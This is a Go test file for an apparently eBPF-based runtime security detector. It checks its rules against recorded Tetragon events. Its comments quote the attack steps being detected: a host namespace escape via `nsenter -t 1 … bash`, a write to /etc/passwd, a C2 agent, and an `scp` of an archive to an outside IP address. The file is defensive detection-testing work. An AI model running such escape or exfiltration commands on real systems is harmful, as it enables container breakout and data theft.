// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package builtin_test

import (
	"context"
	"maps"
	"path/filepath"
	"testing"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/testenv"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/processor/detectionprocessor/internal/rules"
)

// corpusExpect is what the catalogue must report on the shared corpus of
// genuine Tetragon output, file by file (files not listed: nothing at all).
var corpusExpect = map[string]map[string]int{
	// The Isovalent book's scenarios (tenant-jobs, privileged-pod, a Merlin
	// C2 agent run with `go run` in a container).
	"real/book-security-observability-with-ebpf.jsonl": {
		// vi writes etc/passwd (__x64_sys_write on a file_arg; this old build
		// prints paths without the leading slash) in an elasticsearch pod.
		"sensitive_file_write": 1,
		// privileged-pod: `/bin/bash` exec'd by `runc exec` (docker exec -it)
		// and `/usr/bin/bash` started by nsenter inside the same container.
		// The container's own tree (/docker-entrypoint.sh -> nginx) is not
		// a shell and stays quiet.
		"terminal_shell_in_container": 2,
		// privileged-pod: `nsenter -t 1 -m -u -n -i -p bash`.
		"namespace_escape": 1,
		// The C2 agent binary /tmp/go-build…/exe/main inside a container
		// (docker field only). The host-side `go run` children, `sh -c scp`,
		// 7z and the plain `nc host 443` (no -e) are not detections.
		"execution_from_writable_dir": 1,
		// The exfiltration step: `scp s3nsitiv3.7z natalia@34.116.205.187:~`
		// from inside the container.
		"remote_file_copy_in_container": 1,
	},
	// vi: security_file_permission on /etc/passwd with mask 2 (MAY_WRITE)
	// and __x64_sys_write on it, in pod xwing. Not reads: /etc/passwd is
	// world-readable and not in sensitive_file_read's list anyway. The
	// __x64_sys_openat of tracing_policy.yaml by cat and `uname -a` are quiet.
	"real/docs-historical.jsonl": {"sensitive_file_write": 2},
	// vi writing /etc/passwd (mask 2) in pod file-access.
	"real/docs-use-cases--filename-access.jsonl": {"sensitive_file_write": 1},
	// insmod: security_kernel_read_file (READING_MODULE) + do_init_module;
	// mount in test-pod triggers security_kernel_module_request (the one
	// container-originated load); modprobe (started by the kernel) reads
	// xfs.ko and find_module_sections. free_module (rmmod, an unload) and
	// the modprobe exec itself are not loads.
	"real/docs-use-cases--host-system-changes--linux-kernel-modules.jsonl": {"kernel_module_load": 5},
	// /tmp/su run by uid 11 in pod xwing commits root credentials.
	"real/docs-use-cases--linux-process-credentials--monitor-changes-at-kernel.jsonl": {"setuid_to_root_syscall": 1},
	// (syscalls-monitoring: su, already root, calls setuid(0)/setgid(0):
	// quiet. advanced-process-execution: security_bprm_creds_from_file of
	// /bin/busybox carries no privilege change: quiet. capabilities:
	// cap_capable by dmesg: quiet. testdata: netserver/starwars started by
	// containerd-shim: quiet.)
	// nsenter in pod xwing: __x64_sys_setns into the host's namespaces.
	"real/docs-use-cases--process-lifecycle--namespace-access.jsonl": {"namespace_escape": 1},

	// captured/: a real Tetragon 1.7 with tracepoint-only policies. It holds
	// container start/exec/kill by runc (setns, unshare, mount, pivot_root,
	// setuid(0), execveat of /proc/self/exe, `/dev/fd/N init`), Tetragon
	// loading its BPF programs, sudo reading /etc/shadow and sudoers and
	// calling setresuid, curl/wget to localhost, apt/dpkg queries, pyenv
	// shims, a 10,000-exec host burst and a 2,000-exec burst in a container
	// started by `runc exec … sh -c` (non-interactive), and the capture
	// machine's own processes carrying a `docker` value from the /proc scan.
	// All of it is benign or the runtime's own work: the catalogue must stay
	// silent on every file.
	"captured/main-export.jsonl.gz":      {},
	"captured/main-grpc.jsonl.gz":        {},
	"captured/ratelimit-export.jsonl.gz": {},
	"captured/ratelimit-grpc.jsonl.gz":   {},
}

func TestCorpus(t *testing.T) {
	rs := builtin(t)
	dir := testenv.EventsDir(t)
	real, err := filepath.Glob(filepath.Join(dir, "real", "*.jsonl"))
	if err != nil || len(real) == 0 {
		t.Fatalf("no real/*.jsonl under %s (%v)", dir, err)
	}
	captured, err := filepath.Glob(filepath.Join(dir, "captured", "*.jsonl.gz"))
	if err != nil || len(captured) == 0 {
		t.Fatalf("no captured/*.jsonl.gz under %s (%v)", dir, err)
	}
	seen := map[string]bool{}
	totalLines, totalHits := 0, 0
	for _, f := range append(real, captured...) {
		rel, _ := filepath.Rel(dir, f)
		rel = filepath.ToSlash(rel)
		seen[rel] = true
		t.Run(rel, func(t *testing.T) {
			lines := testenv.ReadLines(t, f)
			totalLines += len(lines)
			got := map[string]int{}
			for _, r := range mapLines(t, lines, len(lines)) {
				for _, m := range rs.EvaluateRecord(context.Background(), r.rl, r.sl, r.lr, nil, func(rule *rules.Rule, err error) {
					t.Errorf("rule %s failed to evaluate on a %s record: %v", rule.Name, r.lr.EventName(), err)
				}) {
					got[m.Name]++
					totalHits++
				}
			}
			want := corpusExpect[rel]
			if want == nil {
				want = map[string]int{}
			}
			if !maps.Equal(got, want) {
				t.Errorf("rule hits\n got %v\nwant %v", got, want)
			}
		})
	}
	for rel := range corpusExpect {
		if !seen[rel] {
			t.Errorf("expected corpus file %s is missing", rel)
		}
	}
	t.Logf("%d corpus events, %d rule hits", totalLines, totalHits)
}
